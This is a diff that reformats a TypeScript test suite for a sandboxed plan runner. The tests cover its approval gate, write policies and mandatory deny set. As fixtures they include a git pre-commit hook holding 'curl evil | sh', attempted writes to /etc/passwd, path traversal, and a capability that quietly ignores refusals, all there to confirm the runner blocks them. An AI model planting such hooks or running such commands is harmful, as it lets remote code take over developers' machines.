@@ -22,7 +22,10 @@ const probe = (name: string, seen: Array<ReadonlyArray<string>>, more: Partial<C
 })
 
 describe.each(strategies)("Plan (%s)", (strategy) => {
-  const start = async (files: Record<string, string>, options: { policy?: Policy.Policy | undefined; gate?: (r: GateRequest) => unknown } = {}) => {
+  const start = async (
+    files: Record<string, string>,
+    options: { policy?: Policy.Policy | undefined; gate?: (r: GateRequest) => unknown } = {}
+  ) => {
     const { s, root } = await setup(strategy, files)
     const ws = await acquire(root, { scope: ["**"] })
     const gate = (options.gate ?? approveAll) as (r: GateRequest) => boolean
@@ -34,7 +37,15 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
   describe("the single gate", () => {
     it("is asked once per step, with every capability's declared scope, selectors and mayCreate", async () => {
       const asked: Array<GateRequest> = []
-      const { run } = await start({ "src/a.ts": "a" }, { gate: (r) => { asked.push(r); return true } })
+      const { run } = await start(
+        { "src/a.ts": "a" },
+        {
+          gate: (r) => {
+            asked.push(r)
+            return true
+          }
+        }
+      )
       const seen: Array<ReadonlyArray<string>> = []
       const result = await run([
         Step.fix("format", probe("one", seen), probe("two", seen, { selectors: ["src/a.ts"], mayCreate: ["src/gen/**"] })),
@@ -50,7 +61,11 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
             { name: "two", scope: ["src/**"], selectors: ["src/a.ts"], mayCreate: ["src/gen/**"], external: false }
           ]
         },
-        { step: "inspect", kind: "check", capabilities: [{ name: "three", scope: ["src/**"], selectors: undefined, mayCreate: [], external: false }] }
+        {
+          step: "inspect",
+          kind: "check",
+          capabilities: [{ name: "three", scope: ["src/**"], selectors: undefined, mayCreate: [], external: false }]
+        }
       ])
       expect(seen).toHaveLength(3)
     })
@@ -58,7 +73,15 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
     it("refused: the step fails, nothing of it runs, nothing is touched, later steps are skipped", async () => {
       const { s, ws, run } = await start({ "src/a.ts": "a" }, { gate: () => false })
       let ran = false
-      const touch: Capability = { name: "t", scope: ["src/**"], mayCreate: [], run: async (a) => { ran = true; await a.write("src/a.ts", "x") } }
+      const touch: Capability = {
+        name: "t",
+        scope: ["src/**"],
+        mayCreate: [],
+        run: async (a) => {
+          ran = true
+          await a.write("src/a.ts", "x")
+        }
+      }
       const result = await run([Step.edit("e", (e) => e.write("src/b.ts", "b")), Step.fix("f", touch), Step.write()])
       expect(ran).toBe(false)
       expect(result.ok).toBe(false)
@@ -70,10 +93,26 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
     })
 
     it("only true approves: a throwing gate or a truthy non-boolean refuses", async () => {
-      for (const gate of [() => { throw new Error("operator away") }, () => "yes", async () => 1, () => undefined]) {
+      for (const gate of [
+        () => {
+          throw new Error("operator away")
+        },
+        () => "yes",
+        async () => 1,
+        () => undefined
+      ]) {
         const { run } = await start({ "src/a.ts": "a" }, { gate })
         let ran = false
-        const result = await run([Step.fix("f", { name: "t", scope: ["src/**"], mayCreate: [], run: async () => { ran = true } })])
+        const result = await run([
+          Step.fix("f", {
+            name: "t",
+            scope: ["src/**"],
+            mayCreate: [],
+            run: async () => {
+              ran = true
+            }
+          })
+        ])
         expect([result.ok, ran]).toEqual([false, false])
       }
     })
@@ -83,7 +122,14 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
     it("no policy: fix, check and write steps fail and touch nothing", async () => {
       const { s, run } = await start({ "src/a.ts": "a" }, { policy: undefined })
       let ran = false
-      const cap: Capability = { name: "t", scope: ["src/**"], mayCreate: [], run: async () => { ran = true } }
+      const cap: Capability = {
+        name: "t",
+        scope: ["src/**"],
+        mayCreate: [],
+        run: async () => {
+          ran = true
+        }
+      }
       for (const step of [Step.fix("f", cap), Step.check("c", cap)]) {
         const result = await run([step])
         expect(result.ok).toBe(false)
@@ -98,7 +144,10 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
     it("the write step checks every path before writing any, the mandatory deny set included", async () => {
       const { s, run } = await start({ "src/a.ts": "a" })
       const result = await run([
-        Step.edit("e", (e) => { e.write("src/a.ts", "edited"); e.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n") }),
+        Step.edit("e", (e) => {
+          e.write("src/a.ts", "edited")
+          e.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+        }),
         Step.write()
       ])
       expect(result.steps[1]!.status).toBe("failed")
@@ -112,8 +161,12 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
       const { ws, run } = await start({ "src/a.ts": "a", ".vscode/settings.json": "{}" })
       const result = await run([Step.fix("f", probe("p", seen, { scope: ["**"] }))])
       expect(seen).toEqual([["src/a.ts"]])
-      expect(result.steps[0]!.capabilities[0]!.withheld).toEqual([{ path: ".vscode/settings.json", reason: "policy", message: expect.stringMatching(/mandatory deny set/) }])
-      expect(ws.diagnostics.filter((d) => d.code === "withheld").map((d) => [d.severity, d.path])).toEqual([["WARNING", ".vscode/settings.json"]])
+      expect(result.steps[0]!.capabilities[0]!.withheld).toEqual([
+        { path: ".vscode/settings.json", reason: "policy", message: expect.stringMatching(/mandatory deny set/) }
+      ])
+      expect(ws.diagnostics.filter((d) => d.code === "withheld").map((d) => [d.severity, d.path])).toEqual([
+        ["WARNING", ".vscode/settings.json"]
+      ])
     })
   })
 
@@ -123,7 +176,9 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
       const { run } = await start({ "src/a.ts": "a", "src/b.ts": "b" })
       const result = await run([Step.edit("e", (e) => e.write("src/a.ts", "edited")), Step.fix("f", probe("p", seen))])
       expect(seen).toEqual([["src/b.ts"]])
-      expect(result.steps[1]!.diagnostics.filter((d) => d.code === "withheld").map((d) => [d.severity, d.path])).toEqual([["WARNING", "src/a.ts"]])
+      expect(result.steps[1]!.diagnostics.filter((d) => d.code === "withheld").map((d) => [d.severity, d.path])).toEqual([
+        ["WARNING", "src/a.ts"]
+      ])
       expect(result.ok).toBe(true)
     })
 
@@ -146,7 +201,10 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
       expect(result.ok).toBe(true)
       expect(ws.dirtyPaths()).toEqual([])
       expect(ws.get("src/a.ts")).toBe("a fixed\n")
-      expect(seen).toEqual([["src/a.ts", "src/made.ts"], ["src/a.ts", "src/made.ts"]])
+      expect(seen).toEqual([
+        ["src/a.ts", "src/made.ts"],
+        ["src/a.ts", "src/made.ts"]
+      ])
     })
 
     it("an edit that leaves identical text withholds nothing", async () => {
@@ -172,7 +230,10 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
       }
       const result = await run([Step.fix("f", probe("before", seen), changer, probe("after", seen))])
       expect(result.ok).toBe(true)
-      expect(seen).toEqual([["src/a.ts", "src/gone.ts"], ["src/a.ts", "src/new.ts"]])
+      expect(seen).toEqual([
+        ["src/a.ts", "src/gone.ts"],
+        ["src/a.ts", "src/new.ts"]
+      ])
       expect(disk(s, "src/gone.ts")).toBeUndefined()
     })
 
@@ -197,37 +258,78 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
       name: "claimer",
       scope: ["src/**"],
       mayCreate: [],
-      run: async (access) => { await effect(access); return changes }
+      run: async (access) => {
+        await effect(access)
+        return changes
+      }
     })
 
     it("claimed but unchanged", async () => {
       const { ws, run } = await start({ "src/a.ts": "a", "src/b.ts": "b" })
-      const result = await run([Step.fix("f", fixer({ changes: [{ path: "src/a.ts" }, { path: "src/b.ts" }] }, (a) => a.write("src/a.ts", "A")))])
+      const result = await run([
+        Step.fix(
+          "f",
+          fixer({ changes: [{ path: "src/a.ts" }, { path: "src/b.ts" }] }, (a) => a.write("src/a.ts", "A"))
+        )
+      ])
       expect(result.ok).toBe(true)
-      expect(ws.diagnostics.filter((d) => d.code === "claimed-unchanged").map((d) => [d.severity, d.path])).toEqual([["WARNING", "src/b.ts"]])
+      expect(ws.diagnostics.filter((d) => d.code === "claimed-unchanged").map((d) => [d.severity, d.path])).toEqual([
+        ["WARNING", "src/b.ts"]
+      ])
     })
 
     it("changed but unclaimed", async () => {
       const { ws, run } = await start({ "src/a.ts": "a", "src/b.ts": "b" })
-      const result = await run([Step.fix("f", fixer({ changes: [{ path: "src/a.ts" }] }, async (a) => { await a.write("src/a.ts", "A"); await a.write("src/b.ts", "B") }))])
+      const result = await run([
+        Step.fix(
+          "f",
+          fixer({ changes: [{ path: "src/a.ts" }] }, async (a) => {
+            await a.write("src/a.ts", "A")
+            await a.write("src/b.ts", "B")
+          })
+        )
+      ])
       expect(result.ok).toBe(true)
-      expect(ws.diagnostics.filter((d) => d.code === "changed-unclaimed").map((d) => [d.severity, d.path])).toEqual([["WARNING", "src/b.ts"]])
+      expect(ws.diagnostics.filter((d) => d.code === "changed-unclaimed").map((d) => [d.severity, d.path])).toEqual([
+        ["WARNING", "src/b.ts"]
+      ])
       expect(ws.get("src/b.ts")).toBe("B") // the re-read, not the claim, decides
     })
 
     it("claimed unauthorized", async () => {
       const { s, ws, run } = await start({ "src/a.ts": "a", "lib/x.ts": "x" })
-      const result = await run([Step.fix("f", fixer({ changes: [{ path: "lib/x.ts" }, { path: "/etc/passwd" }] }, async () => {}))])
+      const result = await run([
+        Step.fix(
+          "f",
+          fixer({ changes: [{ path: "lib/x.ts" }, { path: "/etc/passwd" }] }, async () => {})
+        )
+      ])
       expect(result.ok).toBe(true)
-      expect(ws.diagnostics.filter((d) => d.code === "claimed-unauthorized").map((d) => [d.severity, d.path])).toEqual([["WARNING", "/etc/passwd"], ["WARNING", "lib/x.ts"]])
+      expect(ws.diagnostics.filter((d) => d.code === "claimed-unauthorized").map((d) => [d.severity, d.path])).toEqual([
+        ["WARNING", "/etc/passwd"],
+        ["WARNING", "lib/x.ts"]
+      ])
       expect(disk(s, "lib/x.ts")).toBe("x")
       expect(ws.get("lib/x.ts")).toBe("x") // claims are never applied
     })
 
     it("unparseable", async () => {
-      for (const bad of [42, null, "done", [], { changes: "src/a.ts" }, { changes: [{ file: "src/a.ts" }] }, { diagnostics: [{ severity: "FATAL", message: "x" }] }]) {
+      for (const bad of [
+        42,
+        null,
+        "done",
+        [],
+        { changes: "src/a.ts" },
+        { changes: [{ file: "src/a.ts" }] },
+        { diagnostics: [{ severity: "FATAL", message: "x" }] }
+      ]) {
         const { ws, run } = await start({ "src/a.ts": "a" })
-        const result = await run([Step.fix("f", fixer(bad, (a) => a.write("src/a.ts", "A")))])
+        const result = await run([
+          Step.fix(
+            "f",
+            fixer(bad, (a) => a.write("src/a.ts", "A"))
+          )
+        ])
         expect(result.ok).toBe(true)
         expect(ws.diagnostics.filter((d) => d.code === "unparseable-delta").map((d) => d.severity)).toEqual(["WARNING"])
         expect(ws.get("src/a.ts")).toBe("A")
@@ -236,9 +338,16 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
 
     it("only the delta's diagnostics are taken: an engine's ERROR fails the step", async () => {
       const { ws, run } = await start({ "src/a.ts": "a" })
-      const result = await run([Step.fix("f", fixer({ diagnostics: [{ severity: "ERROR", path: "src/a.ts", message: "cannot parse" }], changes: [] }, async () => {}))])
+      const result = await run([
+        Step.fix(
+          "f",
+          fixer({ diagnostics: [{ severity: "ERROR", path: "src/a.ts", message: "cannot parse" }], changes: [] }, async () => {})
+        )
+      ])
       expect(result.ok).toBe(false)
-      expect(ws.diagnostics.filter((d) => d.code === "engine").map((d) => [d.severity, d.path, d.message])).toEqual([["ERROR", "src/a.ts", "cannot parse"]])
+      expect(ws.diagnostics.filter((d) => d.code === "engine").map((d) => [d.severity, d.path, d.message])).toEqual([
+        ["ERROR", "src/a.ts", "cannot parse"]
+      ])
     })
   })
 
@@ -253,7 +362,9 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
         await access.rename("src/c.ts", "src/gen/c.ts")
         await access.write("src/gen/index.ts", "export * from './c'\n")
         await access.write("src/a.ts", "a2\n")
-        return { changes: [{ path: "src/b.ts" }, { path: "src/c.ts", to: "src/gen/c.ts" }, { path: "src/gen/index.ts" }, { path: "src/a.ts" }] }
+        return {
+          changes: [{ path: "src/b.ts" }, { path: "src/c.ts", to: "src/gen/c.ts" }, { path: "src/gen/index.ts" }, { path: "src/a.ts" }]
+        }
       }
     }
     const result = await run([Step.fix("f", codemod)])
@@ -287,7 +398,10 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
           () => access.rename("src/a.ts", "notes/stolen.ts")
         ]) {
           // It swallows every refusal and carries on, hoping no one notices.
-          await attempt().then(() => attempts.push("allowed"), (e: Error) => attempts.push(e.name))
+          await attempt().then(
+            () => attempts.push("allowed"),
+            (e: Error) => attempts.push(e.name)
+          )
         }
         await access.write("src/a.ts", "formatted")
         return { changes: [{ path: "src/a.ts" }] }
@@ -299,7 +413,17 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
     expect(result.steps.map((x) => x.status)).toEqual(["failed", "skipped"])
     const refused = result.steps[0]!.diagnostics.filter((d) => d.code === "refused")
     expect(refused.map((d) => d.severity)).toEqual(Array(9).fill("ERROR"))
-    expect(refused.map((d) => d.path)).toEqual(["src/other.ts", "notes/plan.md", "/etc/passwd", "src/other.ts", "notes/evil.md", "../outside/secret.txt", ".git/hooks/pre-commit", "notes/plan.md", "src/a.ts"])
+    expect(refused.map((d) => d.path)).toEqual([
+      "src/other.ts",
+      "notes/plan.md",
+      "/etc/passwd",
+      "src/other.ts",
+      "notes/evil.md",
+      "../outside/secret.txt",
+      ".git/hooks/pre-commit",
+      "notes/plan.md",
+      "src/a.ts"
+    ])
     expect([disk(s, "src/other.ts"), disk(s, "notes/plan.md"), disk(s, "notes/evil.md")]).toEqual(["o", "p", undefined])
     expect(fs.readFileSync(s.secret, "utf8")).toBe("TOP SECRET")
     expect(ws.get("src/a.ts")).toBe("formatted") // what it did inside its allowlist is still reconciled
@@ -324,7 +448,10 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
         }
       }
       const result = await run([Step.check("c", sneaky)])
-      expect(result.steps[0]!.diagnostics.map((d) => [d.severity, d.code])).toEqual([["ERROR", "refused"], ["WARNING", "inspection-changed"]])
+      expect(result.steps[0]!.diagnostics.map((d) => [d.severity, d.code])).toEqual([
+        ["ERROR", "refused"],
+        ["WARNING", "inspection-changed"]
+      ])
       expect(ws.get("src/a.ts")).toBe("changed by a child process")
     })
   })
@@ -333,7 +460,11 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
     it("flushes dirty paths atomically and carries out pending deletions; parents through mkdirs", async () => {
       const { s, ws, run } = await start({ "src/a.ts": "a", "src/old.ts": "o" })
       const result = await run([
-        Step.edit("e", (e) => { e.write("src/a.ts", "A"); e.write("src/deep/er/new.ts", "N"); e.delete("src/old.ts") }),
+        Step.edit("e", (e) => {
+          e.write("src/a.ts", "A")
+          e.write("src/deep/er/new.ts", "N")
+          e.delete("src/old.ts")
+        }),
         Step.write()
       ])
       expect(result.ok).toBe(true)
@@ -346,7 +477,10 @@ describe.each(strategies)("Plan (%s)", (strategy) => {
     })
 
     it("checks each missing parent against the policy", async () => {
-      const { s, run } = await start({ "src/a.ts": "a" }, { policy: Policy.fromRules({ read: ["**"], write: ["src/**/*.ts", "src/deep"] }) })
+      const { s, run } = await start(
+        { "src/a.ts": "a" },
+        { policy: Policy.fromRules({ read: ["**"], write: ["src/**/*.ts", "src/deep"] }) }
+      )
       const result = await run([Step.edit("e", (e) => e.write("src/deep/er/new.ts", "N")), Step.write()])
       expect(result.steps[1]!.status).toBe("failed")
       expect(result.steps[1]!.diagnostics[0]!.message).toMatch(/src\/deep\/er/)
